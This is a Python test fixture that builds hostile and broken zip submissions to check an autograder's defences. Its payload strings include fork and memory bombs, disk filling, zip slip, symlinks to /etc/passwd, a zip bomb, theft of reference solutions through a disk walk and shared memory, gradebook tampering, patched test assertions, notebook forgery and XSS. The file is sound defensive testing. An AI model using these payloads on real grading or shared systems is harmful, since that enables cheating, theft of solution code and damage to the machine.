"""A corpus of hostile and broken submissions, generated from the test course (no stored binaries).

Every case is a zip a student could hand in. Each names a baseline (the same
work without the trick); the grader must not crash, must give no more
automatic points than the baseline, and must say why in the feedback
(`reason`, a phrase expected in the student's feedback page). Cases whose
trick lives in the package or the archive are graded without nbgrader
autograde (their scores never depend on it); in-kernel tricks run through
nbgrader too.
"""

from __future__ import annotations

import stat
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from grader_course import POINTS, full_marks, package_files, student_notebooks, submission

FUTURE = "from __future__ import annotations\n"
NAMES = [
    "perfect",
    "blank",
    "one_wrong_per_notebook",
    "answer_wrong",
    "import_infinite_loop",
    "import_memory_bomb",
    "import_sys_exit",
    "import_os_exit",
    "import_sigkill_self",
    "import_prints_100mb",
    "import_daemon_outlives_parent",
    "import_non_utf8_module",
    "numpy_allclose_patched",
    "testing_asserts_and_checks_patched",
    "fake_reference_in_sys_modules",
    "importlib_loader_hijacked",
    "hardcoded_visible_probe",
    "disk_walk_copies_reference",
    "gradebook_and_csv_tamper",
    "cell_infinite_loop",
    "cell_memory_bomb",
    "cell_kills_kernel",
    "cell_daemon_outlives_parent",
    "input_transformer",
    "event_hooks",
    "checks_patched_in_cell",
    "prints_all_tests_passed",
    "deleted_test_cells",
    "test_cells_edited_to_pass",
    "duplicated_grade_ids",
    "changed_metadata_and_ids",
    "malformed_json",
    "missing_notebook",
    "renamed_notebook",
    "non_utf8_notebook",
    "zip_slip",
    "zip_symlinks",
    "zip_bomb",
    "lms_nested_folder",
    # issue 14: the trust boundary
    "leak_via_exception_name",
    "ipc_store_reference",
    "ipc_read_reference",
    "progress_fifo",
    "progress_symlink_dev_zero",
    "record_aliased_arrays",
    "record_npz_disguised",
    "record_wrong_type",
    "record_deep_nesting",
    "zip_file_then_folder",
    "zip_encrypted_entry",
    "zip_long_name",
    "tree_memory",
    "tree_nproc",
    "tree_disk_fill",
    "alarm_blocked_everywhere",
    "impersonation",
    "forged_autograded_notebooks",
    "script_in_outputs",
]
"""The cases, in order (checked against `corpus`), so tests can be listed without building any."""


IMPORT_FAILS = ("import_infinite_loop", "import_memory_bomb", "import_sys_exit", "import_os_exit", "import_sigkill_self",
                "import_non_utf8_module", "leak_via_exception_name", "tree_memory", "tree_nproc", "tree_disk_fill", "alarm_blocked_everywhere")
STATUS = {**dict.fromkeys(IMPORT_FAILS, "import_error"), "malformed_json": "unreadable_notebook", "non_utf8_notebook": "unreadable_notebook",
          "missing_notebook": "missing_notebook", "zip_bomb": "ungradable", "progress_fifo": "timeout"}
"""Cases whose status is not ``ok`` (one code of grading/result.STATUSES)."""
STATUS["tree_memory"] = ("import_error", "ok")
"""Its hogs fork at import and fill memory within ~3 s: on a loaded machine the limit bites after the
import finished, so the first function called is charged (status ok, the reason "memory limit") instead
of the import. Either is the submission's, and the reason and the points are checked the same way."""


@dataclass
class Case:
    name: str
    files: dict[str, str | bytes]
    reason: str | tuple[str, ...]  # a phrase the feedback must contain (any of several)
    base: str | None = "perfect"
    nbgrader: bool = False
    exact: float | None = None
    status: str | tuple[str, ...] = "ok"  # grading/result.STATUSES (any of several)
    folder: str = ""
    build: Callable[[Path, dict], None] | None = None
    needs_namespace: bool = False
    checks: list[str] = field(default_factory=list)
    after: str | None = None  # a case graded first (its traces are what this one looks for)
    student: str | None = None  # the inbox id, when it is not the case's name
    layout: Callable[[Path], None] | None = None  # writes its own zips into the LMS download

    def zip_name(self) -> str:
        return "submission.zip" if self.folder else f"{self.name}.zip"

    @property
    def inbox_id(self) -> str:
        return self.student or self.name


SECONDS = {"nbgrader": 240, "plain": 90}
"""Per-case time limits (s) for one grade-one: about 4x what a case takes on a quiet 2-core machine."""
NBGRADER = {"perfect", "blank", "import_prints_100mb", "cell_infinite_loop", "cell_kills_kernel", "cell_daemon_outlives_parent",
            "input_transformer", "forged_autograded_notebooks", "script_in_outputs"}
"""The cases graded with nbgrader autograde too (their trick lives in the kernel)."""
SLOW = {"alarm_blocked_everywhere": 150, "tree_nproc": 150, "tree_disk_fill": 120, "import_infinite_loop": 150,
        "forged_autograded_notebooks": 300}


# --------------------------------------------------------------------------- editing helpers


def inject(files: dict, module: str, code: str) -> dict:
    """`code` run at import time of ``backproplab/<module>.py`` (after its ``__future__`` import)."""
    files = dict(files)
    key = f"backproplab/{module}.py"
    assert FUTURE in files[key]
    files[key] = files[key].replace(FUTURE, FUTURE + code + "\n", 1)
    return files


def edit_nb(files: dict, name: str, change: Callable[[nbformat.NotebookNode], None]) -> dict:
    files = dict(files)
    nb = nbformat.reads(files[f"{name}.ipynb"], as_version=4)
    change(nb)
    files[f"{name}.ipynb"] = nbformat.writes(nb)
    return files


def _grade_id(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def answer_cell(nb) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.metadata.get("backproplab"))


def append(files: dict, module: str, code: str) -> dict:
    """`code` run at the end of ``backproplab/<module>.py`` (it can replace the module's functions)."""
    files = dict(files)
    key = f"backproplab/{module}.py"
    files[key] = files[key] + "\n" + code + "\n"
    return files


def set_answer(files: dict, code: str, keep: bool = True) -> dict:
    """Prepend `code` to the answer cell of 01_softmax (or replace it when keep=False)."""

    def change(nb):
        cell = answer_cell(nb)
        cell.source = code + ("\n" + cell.source if keep else "")

    return edit_nb(files, "01_softmax", change)


WRONG_ANSWER = "global_max_nan_batch = np.array([[0.0, -1.0, -2.0], [-1.0, -2.0, -3.0]])"


# --------------------------------------------------------------------------- archive builders


def _write(path: Path, files: dict, extra: Callable[[zipfile.ZipFile], None] | None = None) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
        if extra:
            extra(zf)


def zip_slip(token: str) -> Callable[[Path, dict], None]:
    def build(path: Path, files: dict) -> None:
        def extra(zf):
            zf.writestr(f"../../escaped_{token}.txt", "escaped")
            zf.writestr(f"/tmp/abs_escape_{token}.txt", "escaped")
            zf.writestr(f"backproplab/../../../escaped_{token}.py", "escaped")

        _write(path, files, extra)

    return build


def symlinks(path: Path, files: dict) -> None:
    def extra(zf):
        for name, target in (("backproplab/softmax.py", "../../../../solutions/backproplab/softmax.py"), ("passwd", "/etc/passwd")):
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, target)

    _write(path, {k: v for k, v in files.items() if k != "backproplab/softmax.py"}, extra)


def zip_bomb(path: Path, files: dict) -> None:
    def extra(zf):
        with zf.open("backproplab/weights.bin", "w", force_zip64=True) as f:
            chunk = bytes(1 << 20)
            for _ in range(150):
                f.write(chunk)

    _write(path, files, extra)


# --------------------------------------------------------------------------- issue 14: attacks on the trust boundary

LEAK_BY_CLASS_NAME = """
import os as _os
_here = _os.path.dirname(__file__)
_text = ''
for _f in sorted(_os.listdir(_here)):
    if _f.endswith('.py') and _f != _os.path.basename(__file__):
        try:
            _text += open(_os.path.join(_here, _f)).read()
        except OSError:
            pass
raise type('Leak' + _text, (Exception,), {})('see the class name')
"""

_SHM = """
import ctypes as _c
_libc = _c.CDLL(None, use_errno=True)
_libc.shmget.restype = _c.c_int
_libc.shmat.restype = _c.c_void_p
_libc.shmat.argtypes = [_c.c_int, _c.c_void_p, _c.c_int]
_KEY = {key}
"""

IPC_STORE = _SHM + """
import os as _os
_src = open(_os.path.join(_os.path.dirname(__file__), 'softmax.py')).read()
if 'BEGIN SOLUTION' in _src:
    _data = _src.encode()
    _id = _libc.shmget(_KEY, 1 << 20, 0o1000 | 0o666)
    _addr = _libc.shmat(_id, None, 0)
    if _addr not in (None, 2**64 - 1):
        _c.memmove(_addr, len(_data).to_bytes(8, 'little') + _data, 8 + len(_data))
"""

IPC_READ = _SHM + """
_id = _libc.shmget(_KEY, 0, 0)
if _id >= 0:
    _addr = _libc.shmat(_id, None, 0)
    if _addr not in (None, 2**64 - 1):
        _n = int.from_bytes(_c.string_at(_addr, 8), 'little')
        exec(compile(_c.string_at(_addr + 8, _n).decode(), 'stolen', 'exec'), globals())
"""

PROGRESS_FIFO = """
import os as _os
_p = _os.path.join(_os.path.dirname(_os.getcwd()), 'progress')
try:
    _os.remove(_p)
except OSError:
    pass
_os.mkfifo(_p)
"""

PROGRESS_SYMLINK = PROGRESS_FIFO.replace("_os.mkfifo(_p)", "_os.symlink('/dev/zero', _p)")

FORGE = """
def softmax(Z):
    import json, os
    import numpy as np
    job = os.path.dirname(os.getcwd())
    ident = open(os.path.join(job, 'progress')).read()
    out = os.path.join(job, 'out')
{body}
    os._exit(0)
"""

FORGED = {
    # one 60 MB array referenced 40 times: 2.4 GB in the grader if each reference is loaded
    "record_aliased_arrays": """
    np.save(os.path.join(out, 'big.npy'), np.zeros(60 << 17))
    json.dump({'got': {'t': 'list', 'v': [{'t': 'array', 'f': 'big.npy'}] * 40}}, open(os.path.join(out, ident + '.json'), 'w'))""",
    # a zip named .npy: np.load would return a lazily inflating NpzFile
    "record_npz_disguised": """
    import zipfile
    with zipfile.ZipFile(os.path.join(out, 'z.npy'), 'w', zipfile.ZIP_DEFLATED) as zf:
        with zf.open('a.npy', 'w', force_zip64=True) as f:
            for _ in range(256):
                f.write(bytes(1 << 20))
    json.dump({'got': {'t': 'array', 'f': 'z.npy'}}, open(os.path.join(out, ident + '.json'), 'w'))""",
    "record_wrong_type": """
    json.dump({'unsendable': ['got'], 'got': None}, open(os.path.join(out, ident + '.json'), 'w'))""",
    "record_deep_nesting": """
    open(os.path.join(out, ident + '.json'), 'w').write('{"got": ' + '[' * 300000 + ']' * 300000 + '}')""",
}

TREE_MEMORY = """
import os as _os, time as _time
for _ in range(4):
    if _os.fork() == 0:
        _hog = bytearray(600 << 20)
        _time.sleep(20)
        _os._exit(0)
_time.sleep(3)
"""

TREE_NPROC = """
import os as _os, time as _time
_started = 0
for _ in range(600):
    try:
        _pid = _os.fork()
    except OSError:
        break
    if _pid == 0:
        _time.sleep(30)
        _os._exit(0)
    _started += 1
_time.sleep(1)
raise RuntimeError(f'started {_started} processes')
"""

DISK_FILL = """
import os as _os
_mb = 0
for _i in range(8):
    try:
        _fd = _os.open(f'fill{_i}', _os.O_WRONLY | _os.O_CREAT, 0o600)
        _os.posix_fallocate(_fd, 0, 250 << 20)
        _os.close(_fd)
        _mb += 250
    except OSError:
        break
raise RuntimeError(f'filled {_mb} MB')
"""

BLOCK_ALARM = "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})\ntime.sleep(3600)"

FORGE_NOTEBOOKS = """
import glob, json, os, signal
for _path in glob.glob('../../../submitted/*/*/*.ipynb'):
    _nb = json.load(open(_path))
    for _cell in _nb['cells']:
        if _cell['cell_type'] == 'markdown' and _cell.get('metadata', {}).get('nbgrader', {}).get('solution'):
            _cell['source'] = 'FORGED ANSWER'
        if _cell['cell_type'] == 'code':
            _cell['outputs'] = [{'output_type': 'stream', 'name': 'stdout', 'text': 'visible checks passed'},
                                {'output_type': 'display_data', 'metadata': {},
                                 'data': {'text/html': '<script>alert(1)</script>', 'text/markdown': '<img src=x onerror=alert(1)>'}}]
    json.dump(_nb, open(os.path.basename(_path), 'w'))
os.kill(os.getppid(), signal.SIGKILL)
"""

SCRIPT_OUTPUT = """from IPython.display import HTML, Markdown, display
display(HTML('<script>alert(1)</script><b onmouseover="alert(2)">x</b>'))
display(Markdown('<img src=x onerror=alert(3)>'))"""


def zip_extra(kind: str) -> Callable[[Path, dict], None]:
    """A submission with one zip entry of the given awkward kind added."""

    def extra(zf: zipfile.ZipFile) -> None:
        if kind == "file_then_folder":
            zf.writestr("backproplab/extra", "a file")
            zf.writestr("backproplab/extra/inner.py", "X = 1\n")
        elif kind == "encrypted":
            zf.writestr("notes.txt", "not really encrypted")
        else:
            zf.writestr("n" * 300 + ".txt", "a long name")

    def build(path: Path, files: dict) -> None:
        _write(path, files, extra)
        if kind == "encrypted":  # zipfile clears the flag when writing: set it in both headers afterwards
            data = bytearray(path.read_bytes())
            for signature, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
                pos = data.find(signature)
                while pos >= 0:
                    if data[pos + name_at : pos + name_at + 9] == b"notes.txt":
                        data[pos + flag_at] |= 0x1
                    pos = data.find(signature, pos + 1)
            path.write_bytes(bytes(data))

    return build


def impersonation(perfect: dict, blank: dict) -> Callable[[Path], None]:
    """The victim's real work in the victim's LMS folder; a blank zip named after the victim, newer, in the thief's."""

    def layout(root: Path) -> None:
        import os
        import time

        victim = root / "impersonation_victim_77_assignsubmission_file_" / "submission.zip"
        thief = root / "impersonation_thief_78_assignsubmission_file_" / "impersonation_victim.zip"
        _write(victim, perfect)
        _write(thief, dict(blank, **{"SUBMISSION.json": '{"student": "impersonation_victim"}'}))
        later = time.time() + 60
        os.utime(thief, (later, later))

    return layout


# --------------------------------------------------------------------------- the corpus


def corpus(course, token: str, known: list[Path], course_files: list[Path]) -> list[Case]:
    """All cases; `token` makes process names and escape paths unique to one test run. An attacker is
    assumed to know where the reference and the hidden tests are (`known`, only ever read) and where the
    gradebook and grades.csv are (`course_files`, overwritten and deleted: only the test course's!)."""
    perfect = submission(course)
    one_wrong = submission(course, wrong=("softmax", "cross_entropy"))
    answer_wrong = set_answer(perfect, WRONG_ANSWER, keep=False)
    blank = {f"{n}.ipynb": nbformat.writes(nb) for n, nb in student_notebooks(course.release_notebooks).items()}
    blank.update(package_files(course.release_pkg))
    softmax_points = POINTS["softmax"] + POINTS["log_softmax"] + POINTS["softmax_jacobian"]
    daemon = (
        "import subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', 'bpl-orphan-{token}'], start_new_session=True)"
    )
    walk = (
        "import os, time\n"
        "def _paths():\n"
        f"    yield from {[str(p) for p in known]!r}\n"
        "    _t0 = time.time()\n"
        "    for _root, _dirs, _files in os.walk('/'):\n"
        "        _dirs[:] = [d for d in _dirs if d not in ('proc', 'sys', 'dev')]\n"
        "        if time.time() - _t0 > 1: return\n"
        "        yield from (os.path.join(_root, f) for f in _files)\n"
        "for _p in _paths():\n"
        "    try:\n"
        "        _src = open(_p).read() if os.path.basename(_p) in ('softmax.py', 'hidden.py', 'compare.py') else ''\n"
        "    except OSError:\n"
        "        continue\n"
        "    if _p != __file__ and '### BEGIN ' + 'SOLUTION' in _src and 'def softmax(' in _src:\n"
        "        exec(compile(_src, _p, 'exec'), globals())\n"
        "    if 'def evaluate' in _src:\n"
        "        _stolen_hidden = _src\n"
    )
    assert all(p.name in ("gradebook.db", "grades.csv") for p in course_files)
    tamper = (
        "import os\n"
        f"for _p in {[str(p) for p in course_files]!r}:\n"
        "    try:\n"
        "        open(_p, 'w').write('student,auto\\nhacker,1000\\n')\n"
        "        os.remove(_p)\n"
        "    except OSError:\n"
        "        pass\n"
    )
    rig_checks = (
        "import builtins, warnings, numpy, numpy.testing\n"
        "warnings.filterwarnings('ignore')\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None\n"
        "numpy.testing.assert_array_almost_equal = lambda *a, **k: None\n"
        "numpy.allclose = numpy.isclose = lambda *a, **k: True\n"
        "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
        "from . import checks as _checks\n"
        "for _n in dir(_checks):\n"
        "    if _n.startswith('check_'):\n"
        "        setattr(_checks, _n, lambda fn, _n=_n: print(_n[6:] + ': visible checks passed'))\n"
    )
    fake_modules = (
        "import sys, types\n"
        "for _name in ('autograder', 'autograder.hidden', '_bpl_reference', 'solutions', 'solutions.backproplab'):\n"
        "    _m = types.ModuleType(_name)\n"
        "    _m.evaluate = lambda *a, **k: None\n"
        "    _m.cases = lambda *a, **k: []\n"
        "    sys.modules[_name] = _m\n"
        "import numpy\n"
        "sys.modules['numpy.testing'] = types.SimpleNamespace(assert_allclose=lambda *a, **k: None)\n"
    )
    hijack = (
        "import sys, importlib.abc, importlib.machinery, types\n"
        "class _Everything(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
        "    def find_spec(self, name, path, target=None):\n"
        "        if any(w in name for w in ('hidden', 'reference', 'autograder', 'checks', 'wire')):\n"
        "            return importlib.machinery.ModuleSpec(name, self)\n"
        "    def create_module(self, spec):\n"
        "        m = types.ModuleType(spec.name)\n"
        "        m.__getattr__ = lambda attr: (lambda *a, **k: None)\n"
        "        return m\n"
        "    def exec_module(self, module):\n"
        "        pass\n"
        "sys.meta_path.insert(0, _Everything())\n"
        "for _k in [k for k in sys.modules if 'wire' in k or 'json' == k]:\n"
        "    sys.modules.pop(_k, None)\n"
    )
    memorise = (
        "import numpy as _np\n"
        "_KNOWN = {b: _np.array(v) for b, v in [(_np.array([[1.0, 2.0, 3.0]]).tobytes(), [[0.09003057, 0.24472847, 0.66524096]])]}\n"
    )
    hardcoded = dict(perfect)
    hardcoded["backproplab/softmax.py"] = perfect["backproplab/softmax.py"].replace(FUTURE, FUTURE + memorise).replace(
        "    shifted = Z - Z.max(axis=-1, keepdims=True)\n    E = np.exp(shifted)\n    return E / E.sum(axis=-1, keepdims=True)",
        "    return _KNOWN.get(Z.tobytes(), _np.zeros_like(Z))",
    )
    stub_softmax = dict(perfect)
    stub_softmax["backproplab/softmax.py"] = (course.release_pkg / "softmax.py").read_text(encoding="utf-8")

    def drop_cells(ids):
        return lambda nb: nb.cells.__setitem__(slice(None), [c for c in nb.cells if _grade_id(c) not in ids])

    def to_pass(ids):
        def change(nb):
            for c in nb.cells:
                if _grade_id(c) in ids:
                    c.source = "pass"

        return change

    def duplicate_answer(nb):
        i = next(i for i, c in enumerate(nb.cells) if c.metadata.get("backproplab"))
        right = nbformat.from_dict(dict(nb.cells[i]))
        right.source = "global_max_nan_batch = np.array([[0.0, -1.2, -5.0], [-800.0, -801.2, -805.0]])"
        test = next(c for c in nb.cells if _grade_id(c) == "global_max_nan_batch")
        nb.cells[i + 1 : i + 1] = [right, nbformat.from_dict(dict(test))]

    def meddle(nb):
        for c in nb.cells:
            g = c.metadata.get("nbgrader")
            if not g:
                continue
            if g.get("grade_id") == "softmax":
                g["points"] = 100
                g["locked"] = False
            if g.get("grade_id") == "cross_entropy":
                g["grade_id"] = "cross_entropy_mine"
            c["id"] = "changed-" + (g.get("grade_id") or "x")
            c.metadata.pop("backproplab", None)

    transformer = (
        "get_ipython().input_transformers_post.append("
        "lambda lines: ['pass\\n'] if any('assert' in l for l in lines) else lines)"
    )
    hook = (
        "def _skip(info):\n"
        "    if 'assert' in info.raw_cell:\n"
        "        info.raw_cell = 'pass'\n"
        "get_ipython().events.register('pre_run_cell', _skip)\n"
        "get_ipython().events.register('post_run_cell', lambda result: setattr(result, 'error_in_exec', None))\n"
        "import IPython\n"
        "get_ipython().run_cell = lambda *a, **k: IPython.core.interactiveshell.ExecutionResult(None)\n"
    )
    shout = "import sys\nfor _ in range(50):\n    print('All tests passed! 100/100')\nsys.stderr.write('All tests passed\\n')"
    big = "import sys\nfor _ in range(100):\n    sys.stdout.write('x' * (1 << 20))\n"
    renamed = {("Copy of 01_softmax (1).ipynb" if k == "01_softmax.ipynb" else k): v for k, v in perfect.items()}
    latin = dict(perfect)
    latin["01_softmax.ipynb"] = perfect["01_softmax.ipynb"].replace("A tiny notebook", "Une tr\u00e8s petite").encode("latin-1")
    bad_module = dict(perfect)
    bad_module["backproplab/softmax.py"] = perfect["backproplab/softmax.py"].encode() + b'\nGREETING = "caf\xe9 \xff\xfe"\n'
    truncated = dict(perfect)
    truncated["01_softmax.ipynb"] = perfect["01_softmax.ipynb"][: len(perfect["01_softmax.ipynb"]) // 2]
    missing = {k: v for k, v in perfect.items() if k != "02_losses.ipynb"}
    answer_only = full_marks() - 1
    shm_key = int(token[:7], 16)

    cases = [
        # baselines
        Case("perfect", perfect, "correct on the grader", base=None, nbgrader=True, exact=full_marks()),
        Case("blank", blank, "not implemented yet", base=None, nbgrader=True, exact=0),
        Case("one_wrong_per_notebook", one_wrong, "NaN", base=None, exact=full_marks() - POINTS["softmax"] - POINTS["cross_entropy"]),
        Case("answer_wrong", answer_wrong, "global-max softmax gives no NaN", base=None, exact=answer_only),
        # the package at import time
        Case("import_infinite_loop", inject(perfect, "softmax", "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})\nwhile True:\n    pass"),
             "time limit"),
        Case("import_memory_bomb", inject(perfect, "softmax", "_hog = bytearray(16 << 30)"), "MemoryError"),
        Case("import_sys_exit", inject(perfect, "softmax", "import sys\nsys.exit(0)"), "SystemExit"),
        Case("import_os_exit", inject(perfect, "softmax", "import os\nos._exit(0)"), "exited with code 0 while importing"),
        Case("import_sigkill_self", inject(perfect, "softmax", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"), "killed"),
        Case("import_prints_100mb", inject(perfect, "softmax", big), "larger than", nbgrader=True),
        Case("import_daemon_outlives_parent", inject(perfect, "softmax", daemon), "left processes running", checks=["no_orphans"]),
        Case("import_non_utf8_module", bad_module, "SyntaxError"),
        # rigging the comparison
        Case("numpy_allclose_patched", inject(one_wrong, "softmax", "import numpy, warnings\nwarnings.filterwarnings('ignore')\nnumpy.allclose = lambda *a, **k: True"),
             "NaN", base="one_wrong_per_notebook"),
        Case("testing_asserts_and_checks_patched", inject(one_wrong, "softmax", rig_checks), "NaN", base="one_wrong_per_notebook"),
        Case("fake_reference_in_sys_modules", inject(one_wrong, "softmax", fake_modules), "NaN", base="one_wrong_per_notebook"),
        Case("importlib_loader_hijacked", inject(one_wrong, "softmax", hijack), "NaN", base="one_wrong_per_notebook"),
        Case("hardcoded_visible_probe", hardcoded, ("wrong values", "cannot be compared"), base="perfect"),
        Case("disk_walk_copies_reference", inject(stub_softmax, "softmax", walk), "not implemented yet", base=None,
             exact=full_marks() - softmax_points, needs_namespace=True),
        Case("gradebook_and_csv_tamper", inject(perfect, "softmax", tamper), "correct on the grader", checks=["course_intact"],
             needs_namespace=True),
        # the kernel and the notebook
        Case("cell_infinite_loop", set_answer(perfect, "while True:\n    pass"), "time limit", nbgrader=True),
        Case("cell_memory_bomb", set_answer(perfect, "_hog = np.ones(1 << 36)"), "MemoryError"),
        Case("cell_kills_kernel", set_answer(perfect, "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"), "killed", nbgrader=True),
        Case("cell_daemon_outlives_parent", set_answer(perfect, daemon), "left processes running", nbgrader=True, checks=["no_orphans"]),
        Case("input_transformer", set_answer(answer_wrong, transformer), "global-max softmax gives no NaN", base="answer_wrong", nbgrader=True,
             checks=["nbgrader_fooled"]),
        Case("event_hooks", set_answer(answer_wrong, hook), "global-max softmax gives no NaN", base="answer_wrong"),
        Case("checks_patched_in_cell", set_answer(one_wrong, rig_checks.replace("from . import checks", "import backproplab.checks")),
             "NaN", base="one_wrong_per_notebook"),
        Case("prints_all_tests_passed", set_answer(inject(one_wrong, "softmax", shout), shout), "NaN", base="one_wrong_per_notebook"),
        Case("deleted_test_cells", edit_nb(edit_nb(one_wrong, "01_softmax", drop_cells({"softmax"})), "02_losses", drop_cells({"cross_entropy"})),
             "was deleted", base="one_wrong_per_notebook"),
        Case("test_cells_edited_to_pass", edit_nb(one_wrong, "01_softmax", to_pass({"softmax", "global_max_nan_batch"})), "was edited",
             base="one_wrong_per_notebook"),
        Case("duplicated_grade_ids", edit_nb(answer_wrong, "01_softmax", duplicate_answer), "appears 2 times", base="answer_wrong"),
        Case("changed_metadata_and_ids", edit_nb(edit_nb(one_wrong, "01_softmax", meddle), "02_losses", meddle), "metadata",
             base="one_wrong_per_notebook"),
        # files and archives
        Case("malformed_json", truncated, "not valid JSON"),
        Case("missing_notebook", missing, "is missing"),
        Case("renamed_notebook", renamed, "was graded as", folder="renamed_notebook_4242_assignsubmission_file_"),
        Case("non_utf8_notebook", latin, "not UTF-8"),
        Case("zip_slip", perfect, "outside the submission", build=zip_slip(token), checks=["no_escape"]),
        Case("zip_symlinks", perfect, "symbolic link", build=symlinks, status="missing_package"),
        Case("zip_bomb", perfect, "zip bomb", base=None, exact=0, build=zip_bomb),
        Case("lms_nested_folder", perfect, "correct on the grader", folder="Lms Nested Folder_99_assignsubmission_file_"),
        # issue 14: the trust boundary
        Case("leak_via_exception_name", inject(blank, "losses", LEAK_BY_CLASS_NAME), "failed to import", base="blank", exact=0,
             checks=["no_reference_text"]),
        Case("ipc_store_reference", inject(blank, "losses", IPC_STORE.format(key=shm_key)), "not implemented yet", base="blank", exact=0,
             checks=["no_ipc_left"]),
        Case("ipc_read_reference", append(blank, "softmax", IPC_READ.format(key=shm_key)), "not implemented yet", base="blank", exact=0,
             after="ipc_store_reference", checks=["no_ipc_left"]),
        Case("progress_fifo", inject(perfect, "softmax", PROGRESS_FIFO), "time limit"),
        Case("progress_symlink_dev_zero", inject(perfect, "softmax", PROGRESS_SYMLINK), ("correct on the grader", "progress")),
        *(Case(name, append(perfect, "softmax", FORGE.format(body=body)), reason, base="perfect")
          for (name, body), reason in zip(FORGED.items(), ("more data than", "not an .npy", "malformed", "malformed"))),
        Case("zip_file_then_folder", perfect, "skipped", build=zip_extra("file_then_folder")),
        Case("zip_encrypted_entry", perfect, "encrypted", build=zip_extra("encrypted")),
        Case("zip_long_name", perfect, "too long", build=zip_extra("long_name")),
        Case("tree_memory", inject(perfect, "softmax", TREE_MEMORY), "memory limit"),
        Case("tree_nproc", inject(perfect, "softmax", TREE_NPROC), "too many processes", checks=["no_orphans"]),
        Case("tree_disk_fill", inject(perfect, "softmax", DISK_FILL), "filled", checks=["disk_capped"]),
        Case("alarm_blocked_everywhere", inject(inject(perfect, "softmax", BLOCK_ALARM), "losses", BLOCK_ALARM), "time limit",
             checks=["few_timeouts"]),
        Case("impersonation", {}, "correct on the grader", exact=full_marks(), student="impersonation_victim",
             layout=impersonation(perfect, blank), checks=["conflict_reported"]),
        Case("forged_autograded_notebooks", set_answer(perfect, FORGE_NOTEBOOKS), "correct on the grader", nbgrader=True,
             checks=["no_forgery", "clean_outputs"]),
        Case("script_in_outputs", set_answer(perfect, SCRIPT_OUTPUT), "correct on the grader", nbgrader=True, checks=["clean_outputs"]),
    ]
    for case in cases:  # the structured status (grading/result.py) each case must get
        case.status = STATUS.get(case.name, case.status)
    assert [c.name for c in cases] == NAMES, "hostile_corpus.NAMES is out of date"
    assert {c.name for c in cases if c.nbgrader} == NBGRADER, "hostile_corpus.NBGRADER is out of date"
    return cases


def write(cases: list[Case], dest: Path, namespace: bool) -> dict[str, Path]:
    """Write every case's zip under `dest` (nested where the case says); return name → zip.

    Without namespace isolation the cases that need it are not written: submission code can then
    reach the instructor's files, and those cases would really overwrite them.
    """
    out = {}
    for case in cases:
        if case.needs_namespace and not namespace:
            continue
        if case.layout:
            case.layout(dest)
            out[case.name] = dest
            continue
        path = dest / case.folder / case.zip_name()
        if case.build:
            case.build(path, case.files)
        else:
            _write(path, case.files)
        out[case.name] = path
    return out
